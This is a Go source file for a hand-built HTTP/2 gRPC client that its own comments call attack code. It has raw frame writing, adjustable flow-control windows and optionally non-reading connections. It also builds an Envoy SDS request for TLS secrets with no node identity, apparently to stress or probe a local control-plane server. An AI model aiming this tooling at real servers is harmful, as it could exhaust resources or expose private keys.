package main

// A client of HTTP/2 that keeps to the protocol only where the attack needs it: frames by hand (RFC 9113), headers without
// compression (RFC 7541, 6.2.2).

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

const (
	frameData         = 0
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameGoAway       = 7
	frameWindowUpdate = 8

	flagEnd        = 0x1
	flagAck        = 0x1
	flagEndHeaders = 0x4

	// What a peer may send before it is told more, for each stream and for all (RFC 9113, 6.9.2).
	firstWindow = 65535
	// The largest frame that every peer takes.
	largestFrame = 16384

	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

// What an attack has done so far, over all its connections.
type tally struct{ sent, ended, lost atomic.Int64 }

type connection struct {
	socket net.Conn
	tally  *tally
	write  sync.Mutex

	lock    sync.Mutex
	changed *sync.Cond
	gone    bool
	next    uint32
	window  int
	initial int
	// Open streams, and what each may still send.
	streams map[uint32]int
}

// open connects and says how much of an answer it takes. One that reads keeps its windows and answers pings.
func open(path string, window uint32, reads bool, counts *tally) (*connection, error) {
	socket, err := net.DialTimeout("unix", path, 5*time.Second)
	if err != nil {
		return nil, err
	}
	c := &connection{
		socket: socket, tally: counts, next: 1,
		window: firstWindow, initial: firstWindow, streams: map[uint32]int{},
	}
	c.changed = sync.NewCond(&c.lock)
	settings := make([]byte, 6)
	binary.BigEndian.PutUint16(settings, 4)
	binary.BigEndian.PutUint32(settings[2:], window)
	if _, err := io.WriteString(socket, preface); err == nil {
		err = c.frame(frameSettings, 0, 0, settings)
	}
	if err != nil {
		socket.Close()
		return nil, err
	}
	if reads {
		go c.read()
	}
	return c, nil
}

func (c *connection) frame(kind, flags byte, stream uint32, payload []byte) error {
	head := make([]byte, 9, 9+len(payload))
	head[0], head[1], head[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	c.write.Lock()
	defer c.write.Unlock()
	_, err := c.socket.Write(append(head, payload...))
	return err
}

// stream begins a call of a gRPC method.
func (c *connection) stream(path string) (uint32, error) {
	c.lock.Lock()
	id := c.next
	c.next += 2
	c.streams[id] = c.initial
	c.lock.Unlock()
	return id, c.frame(frameHeaders, flagEndHeaders, id, headers(path))
}

// send puts bytes into a stream as its window opens; false if the other side ended it first.
func (c *connection) send(id uint32, content []byte, last bool) bool {
	for {
		part, ok := c.claim(id, len(content))
		if !ok {
			return false
		}
		flags := byte(0)
		if last && part == len(content) {
			flags = flagEnd
		}
		if c.frame(frameData, flags, id, content[:part]) != nil {
			return false
		}
		if content = content[part:]; len(content) == 0 {
			return true
		}
	}
}

// claim waits for room for some of so many bytes.
func (c *connection) claim(id uint32, wanted int) (int, bool) {
	c.lock.Lock()
	defer c.lock.Unlock()
	for {
		left, there := c.streams[id]
		if !there || c.gone {
			return 0, false
		}
		if room := min(left, c.window, largestFrame, wanted); room > 0 {
			c.streams[id] -= room
			c.window -= room
			return room, true
		}
		c.changed.Wait()
	}
}

func (c *connection) read() {
	head := make([]byte, 9)
	for {
		if _, err := io.ReadFull(c.socket, head); err != nil {
			break
		}
		payload := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
		if _, err := io.ReadFull(c.socket, payload); err != nil {
			break
		}
		c.take(head[3], head[4], binary.BigEndian.Uint32(head[5:])&0x7fffffff, payload)
	}
	c.lock.Lock()
	c.gone = true
	c.lock.Unlock()
	c.changed.Broadcast()
	c.socket.Close()
	c.tally.lost.Add(1)
}

func (c *connection) take(kind, flags byte, stream uint32, payload []byte) {
	switch {
	case kind == frameSettings && flags&flagAck == 0:
		c.settings(payload)
		c.frame(frameSettings, flagAck, 0, nil)
	case kind == framePing && flags&flagAck == 0:
		c.frame(framePing, flagAck, 0, payload)
	case kind == frameWindowUpdate:
		c.lock.Lock()
		more := int(binary.BigEndian.Uint32(payload) & 0x7fffffff)
		if _, there := c.streams[stream]; there {
			c.streams[stream] += more
		} else if stream == 0 {
			c.window += more
		}
		c.lock.Unlock()
		c.changed.Broadcast()
	case kind == frameReset || (kind == frameData || kind == frameHeaders) && flags&flagEnd != 0:
		c.lock.Lock()
		_, there := c.streams[stream]
		delete(c.streams, stream)
		c.lock.Unlock()
		c.changed.Broadcast()
		if there {
			c.tally.ended.Add(1)
		}
	}
	if kind == frameData && len(payload) > 0 {
		more := binary.BigEndian.AppendUint32(nil, uint32(len(payload)))
		c.frame(frameWindowUpdate, 0, 0, more)
		if flags&flagEnd == 0 {
			c.frame(frameWindowUpdate, 0, stream, more)
		}
	}
}

// settings takes up what concerns us: how much a stream may send at first.
func (c *connection) settings(payload []byte) {
	c.lock.Lock()
	defer c.lock.Unlock()
	for ; len(payload) >= 6; payload = payload[6:] {
		if binary.BigEndian.Uint16(payload) == 4 {
			initial := int(binary.BigEndian.Uint32(payload[2:]))
			for id := range c.streams {
				c.streams[id] += initial - c.initial
			}
			c.initial = initial
		}
	}
}

// headers of a gRPC call: literal, never indexed by the other side.
func headers(path string) []byte {
	var block bytes.Buffer
	block.Write([]byte{0x83, 0x86}) // POST, http
	text := func(name []byte, value string) {
		block.Write(name)
		block.WriteByte(byte(len(value)))
		block.WriteString(value)
	}
	text([]byte{0x04}, path)
	text([]byte{0x01}, "envoy.invalid")
	text([]byte{0x0f, 0x10}, "application/grpc") // content-type
	text(append([]byte{0x00, 2}, "te"...), "trailers")
	return block.Bytes()
}

// message is what gRPC puts before a message of this length, and the beginning of that.
func message(length int, content []byte) []byte {
	head := binary.BigEndian.AppendUint32([]byte{0}, uint32(length))
	return append(head, content...)
}

// subscribe is a DiscoveryRequest for these names, without a node.
func subscribe(names ...string) []byte {
	var request bytes.Buffer
	field := func(tag byte, text string) {
		request.WriteByte(tag)
		request.Write(binary.AppendUvarint(nil, uint64(len(text))))
		request.WriteString(text)
	}
	for _, name := range names {
		field(3<<3|2, name)
	}
	field(4<<3|2, "type.googleapis.com/envoy.extensions.transport_sockets.tls.v3.Secret")
	return request.Bytes()
}
